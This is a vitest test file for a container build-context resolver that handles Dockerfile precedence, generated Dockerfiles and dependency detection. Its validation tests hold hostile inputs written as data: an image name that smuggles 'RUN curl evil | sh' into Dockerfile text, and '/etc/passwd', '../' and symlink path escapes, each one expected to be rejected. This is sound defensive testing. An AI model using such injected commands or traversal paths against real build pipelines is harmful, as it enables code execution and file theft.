import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { LaunchError } from '@launch/core';
import { resolveBuildContext, type BuildContextInput } from './resolve.js';

const scratch = mkdtempSync(join(tmpdir(), 'launch-resolve-test-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
let n = 0;

/** A job code directory holding `files` (path → content). */
function code(files: Record<string, string>): string {
  const dir = join(scratch, `code${++n}`);
  mkdirSync(dir);
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  return dir;
}

const input = (dir: string, extra: Partial<BuildContextInput> = {}): BuildContextInput => ({
  dir,
  defaultPythonVersion: '3.10',
  user: { name: 'launch', uid: 1000 },
  maxEntries: 10_000,
  ...extra,
});

async function failure(promise: Promise<unknown>): Promise<LaunchError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(LaunchError.isInstance(error)).toBe(true);
  expect((error as LaunchError).stage).toBe('build');
  return error as LaunchError;
}

describe('build context precedence (W&B context_manager)', () => {
  const tree = {
    'Dockerfile.override': 'FROM override\n',
    'Dockerfile.job': 'FROM job\n',
    'Dockerfile.wandb': 'FROM beside\n',
    'train.py': '',
    'requirements.txt': 'wandb\n',
    'ctx/Dockerfile.override': 'FROM override-in-ctx\n',
    'ctx/Dockerfile.job': 'FROM job-in-ctx\n',
  };

  it('uses overrides.dockerfile first, copied to Dockerfile.wandb at the root', async () => {
    const dir = code(tree);
    const plan = await resolveBuildContext(
      input(dir, { overrideDockerfile: 'Dockerfile.override', jobDockerfile: 'Dockerfile.job', overrideEntryPoint: ['python', 'train.py'] }),
    );
    expect(plan).toMatchObject({ dockerfileSource: 'overrides.dockerfile', dockerfile: 'FROM override\n', dockerfilePath: 'Dockerfile.wandb', mount: '' });
    expect(plan.files.get('Dockerfile.wandb')?.toString()).toBe('FROM override\n');
    expect(plan.entryPoint).toEqual(['python', 'train.py']);
  });

  it('makes the job build_context the root, with Dockerfile paths relative to it', async () => {
    const dir = code(tree);
    const plan = await resolveBuildContext(input(dir, { buildContext: 'ctx', overrideDockerfile: 'Dockerfile.override' }));
    expect(plan.root).toBe(join(dir, 'ctx'));
    expect(plan.dockerfile).toBe('FROM override-in-ctx\n');
    const jobPlan = await resolveBuildContext(input(dir, { buildContext: 'ctx', jobDockerfile: 'Dockerfile.job' }));
    expect(jobPlan).toMatchObject({ dockerfileSource: 'job dockerfile', dockerfile: 'FROM job-in-ctx\n', root: join(dir, 'ctx') });
  });

  it('uses the job dockerfile when there is no override', async () => {
    const plan = await resolveBuildContext(input(code(tree), { jobDockerfile: 'Dockerfile.job', jobEntryPoint: ['python', 'train.py'] }));
    expect(plan).toMatchObject({ dockerfileSource: 'job dockerfile', dockerfile: 'FROM job\n' });
  });

  it('uses a Dockerfile.wandb beside the entry point, moving the root there and rewriting the entry point', async () => {
    const dir = code({ 'jobs/train/Dockerfile.wandb': 'FROM sub\n', 'jobs/train/main.py': '', 'README.md': '' });
    const plan = await resolveBuildContext(input(dir, { jobEntryPoint: ['python', 'jobs/train/main.py'] }));
    expect(plan).toMatchObject({ dockerfileSource: 'Dockerfile.wandb', dockerfile: 'FROM sub\n', root: join(dir, 'jobs/train') });
    expect(plan.entryPoint).toEqual(['python', 'main.py']);
    // At the top: the root stays and the entry point is unchanged.
    const top = await resolveBuildContext(input(code(tree), { overrideEntryPoint: ['python', 'train.py'] }));
    expect(top).toMatchObject({ dockerfileSource: 'Dockerfile.wandb', dockerfile: 'FROM beside\n', entryPoint: ['python', 'train.py'] });
  });

  it('otherwise generates a Dockerfile with the code under src/', async () => {
    const dir = code({ 'train.py': '', 'requirements.txt': 'wandb\ntorch\n' });
    const plan = await resolveBuildContext(input(dir, { overrideEntryPoint: ['python', 'train.py'], pythonVersion: '3.11.4' }));
    expect(plan).toMatchObject({ dockerfileSource: 'generated', mount: 'src', root: dir, requirements: 'requirements.txt', warnings: [] });
    expect([...plan.files.keys()].sort()).toEqual(['Dockerfile.wandb', '_wandb_bootstrap.py', 'src/runtime.txt']);
    expect(plan.files.get('src/runtime.txt')?.toString()).toBe('python-3.11.4');
    const lines = plan.dockerfile.split('\n');
    expect(lines).toContain('FROM python:3.11 AS build');
    expect(lines).toContain('COPY src/requirements.txt ./');
    expect(lines).toContain('RUN WANDB_DISABLE_CACHE=true pip install uv && uv pip install -r requirements.txt');
    expect(lines).toContain('FROM python:3.11-buster AS base');
    expect(lines).toContain('RUN useradd --create-home --no-log-init --shell /bin/bash --gid 0 --uid 1000 launch || echo ""');
    expect(lines).toContain('USER launch');
    expect(lines).toContain('WORKDIR /home/launch');
    expect(lines).toContain('COPY --chown=1000 src/ /home/launch');
    expect(lines).toContain('ENV PYTHONUNBUFFERED=1');
    expect(lines).toContain('ENTRYPOINT ["python", "train.py"]');
  });

  it('follows W&B base-image rules: -buster before 3.12, -bookworm from 3.12, the default version otherwise', async () => {
    const dir = code({ 'train.py': '' });
    const ep = { overrideEntryPoint: ['python', 'train.py'] };
    expect((await resolveBuildContext(input(dir, { ...ep, pythonVersion: '3.12.1' }))).dockerfile).toContain('FROM python:3.12-bookworm AS base');
    const defaulted = await resolveBuildContext(input(dir, ep));
    expect(defaulted.dockerfile).toContain('FROM python:3.10 AS build');
    expect(defaulted.files.has('src/runtime.txt')).toBe(false);
    const error = await failure(resolveBuildContext(input(dir, { ...ep, pythonVersion: 'three' })));
    expect(error.message).toContain('python_version is "three"');
  });

  it('installs Python on an accelerator base image, refusing images that could smuggle Dockerfile text', async () => {
    const dir = code({ 'train.py': '' });
    const ep = { overrideEntryPoint: ['python', 'train.py'], pythonVersion: '3.11' };
    const plan = await resolveBuildContext(input(dir, { ...ep, acceleratorBaseImage: 'nvidia/cuda:12.2.0-runtime-ubuntu22.04' }));
    expect(plan.dockerfile).toContain('FROM nvidia/cuda:12.2.0-runtime-ubuntu22.04 AS base');
    expect(plan.dockerfile).toContain('python3.11 libpython3.11 python3-pip python3-setuptools');
    expect(plan.dockerfile).toContain('update-alternatives --install /usr/bin/python python /usr/bin/python3.11 1');
    const digest = `nvidia/cuda@sha256:${'a'.repeat(64)}`;
    expect((await resolveBuildContext(input(dir, { ...ep, acceleratorBaseImage: digest }))).dockerfile).toContain(`FROM ${digest} AS base`);
    for (const [image, problem] of [
      ['nvidia/cuda:12\nRUN curl evil | sh', 'contains whitespace'],
      ['nvidia/cuda:12#x', 'contains "#"'],
      ['nvidia/cuda@sha1:abc', 'has a digest that is not @sha256'],
      ['NVIDIA/CUDA', 'is not an image reference'],
    ] as const) {
      const error = await failure(resolveBuildContext(input(dir, { ...ep, acceleratorBaseImage: image })));
      expect(error.message).toContain(problem);
      expect(error.message).toContain('accelerator.base_image');
    }
  });

  it('takes dependencies from pyproject.toml, then requirements.frozen.txt, else none, warning as W&B does', async () => {
    const ep = { overrideEntryPoint: ['python', 'train.py'] };
    const pyproject = await resolveBuildContext(
      input(code({ 'pyproject.toml': '[project]\nname = "x"\ndependencies = [\n  "numpy>=1.26", # comment\n  "wandb",\n]\n' }), ep),
    );
    expect(pyproject.requirements).toBe('pyproject.toml');
    expect(pyproject.files.get('src/requirements.txt')?.toString()).toBe('numpy>=1.26\nwandb');
    expect(pyproject.dockerfile).toContain('uv pip install -r requirements.txt');

    const frozen = await resolveBuildContext(input(code({ 'pyproject.toml': '[project]\nname = "x"\n', 'requirements.frozen.txt': 'numpy==1.26.0\n' }), ep));
    expect(frozen.requirements).toBe('requirements.frozen.txt');
    expect(frozen.dockerfile).toContain('COPY src/requirements.frozen.txt _wandb_bootstrap.py ./');
    expect(frozen.dockerfile).toContain('RUN WANDB_DISABLE_CACHE=true python _wandb_bootstrap.py');
    expect(frozen.warnings).toEqual(['wandb is not present in requirements.frozen.txt']);

    const none = await resolveBuildContext(input(code({ 'train.py': '' }), ep));
    expect(none.requirements).toBe('none');
    expect(none.dockerfile).toContain('RUN mkdir -p /env/');
    expect(none.warnings[0]).toMatch(/no packages will be installed/);

    const bad = await failure(resolveBuildContext(input(code({ 'pyproject.toml': '[project\n' }), ep)));
    expect(bad.message).toContain('pyproject.toml of the job is not valid TOML');
    const wrongType = await failure(resolveBuildContext(input(code({ 'pyproject.toml': '[project]\ndependencies = "numpy"\n' }), ep)));
    expect(wrongType.message).toContain('project.dependencies must be a list of strings');
  });

  it('writes the entry point as Python json.dumps does, and runs SageMaker images as root', async () => {
    const dir = code({ 'train.py': '' });
    const plan = await resolveBuildContext(input(dir, { overrideEntryPoint: ['python', 'tr"ain.py', 'é'], resource: 'sagemaker' }));
    expect(plan.dockerfile).toContain('ENTRYPOINT ["python", "tr\\"ain.py", "\\u00e9"]');
    expect(plan.dockerfile).toContain('USER root');
    expect(plan.dockerfile).not.toContain('useradd');
  });

  it('refuses a Dockerfile or build_context path that leaves the code directory, naming it', async () => {
    const outside = code({ Dockerfile: 'FROM outside\n' });
    const dir = code({ 'train.py': '' });
    symlinkSync(join(outside, 'Dockerfile'), join(dir, 'Dockerfile.link'));
    symlinkSync(outside, join(dir, 'ctx-link'));
    for (const [extra, field, value] of [
      [{ overrideDockerfile: '../code1/Dockerfile.override' }, 'overrides.dockerfile', '../code1/Dockerfile.override'],
      [{ overrideDockerfile: '/etc/passwd' }, 'overrides.dockerfile', '/etc/passwd'],
      [{ overrideDockerfile: 'Dockerfile.link' }, 'overrides.dockerfile', 'Dockerfile.link'],
      [{ jobDockerfile: 'sub/../../x' }, 'the job dockerfile', 'sub/../../x'],
      [{ buildContext: '../..' }, 'the job build_context', '../..'],
      [{ buildContext: 'ctx-link' }, 'the job build_context', 'ctx-link'],
    ] as const) {
      const error = await failure(resolveBuildContext(input(dir, extra)));
      expect(error.code).toBe('build.context_path_escapes');
      expect(error.message).toContain(`${field} ${JSON.stringify(value)} points outside the build context`);
    }
  });

  it('says clearly what is missing', async () => {
    const dir = code({ 'train.py': '' });
    expect((await failure(resolveBuildContext(input(dir, { overrideDockerfile: 'Nope' })))).message).toContain('overrides.dockerfile "Nope" does not exist');
    expect((await failure(resolveBuildContext(input(dir, { buildContext: 'nope' })))).message).toContain('build_context "nope" is not a directory');
    expect((await failure(resolveBuildContext(input(join(dir, 'missing'))))).code).toBe('build.context_missing');
    expect((await failure(resolveBuildContext(input(dir)))).code).toBe('build.no_entry_point');
  });

  it('reads the .dockerignore of the packed directory', async () => {
    const dir = code({ '.dockerignore': 'data/\n', 'train.py': '', 'data/big.bin': 'x' });
    const plan = await resolveBuildContext(input(dir, { overrideEntryPoint: ['python', 'train.py'] }));
    expect(plan.ignore.ignores('data/big.bin')).toBe(true);
    expect(plan.ignore.ignores('train.py')).toBe(false);
    const bad = await failure(resolveBuildContext(input(code({ '.dockerignore': '[z-a]\n', Dockerfile: '' }), { overrideDockerfile: 'Dockerfile' })));
    expect(bad.code).toBe('build.invalid_dockerignore');
  });
});
